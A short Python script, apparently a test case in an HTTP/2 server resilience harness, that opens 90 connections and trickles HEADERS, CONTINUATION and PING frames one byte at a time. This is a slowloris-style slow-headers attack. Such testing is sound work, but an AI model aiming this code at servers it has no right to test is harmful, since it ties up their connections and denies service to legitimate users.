#!/usr/bin/python3
"""Slow headers: connections whose preface, frame header or header list comes a byte at a time, or stops half way."""
import time

from attacker import Peer, REQUEST, h2, main

MARK = ("http2.frames_slow",)
ENDED = True
LIST = h2.frame(h2.HEADERS, 0, 1, REQUEST[:40]) + b"".join(h2.frame(h2.CONT, 0, 1, REQUEST[i:i + 1]) for i in range(40, len(REQUEST)))


def attack(run):
    ways = (h2.frame(h2.HEADERS, h2.END_HEADERS, 1, REQUEST), LIST, h2.frame(h2.PING, 0, 0, b"12345678"))
    peers = [(Peer(run), ways[i % len(ways)]) for i in range(90)]
    at, begun = 0, time.monotonic()
    # As long as it takes until all were ended: the server's patience, not the attack's time, decides.
    while any(p.open and not p.goaway for p, _ in peers) and time.monotonic() < begun + 60:
        for peer, wire in peers:
            if at < len(wire) - 1 and peer.open:
                peer.send(wire[at:at + 1], 0)
            peer.wait(0.002)
        at += 1
    for peer, _ in peers:
        peer.close()


if __name__ == "__main__":
    main(attack)
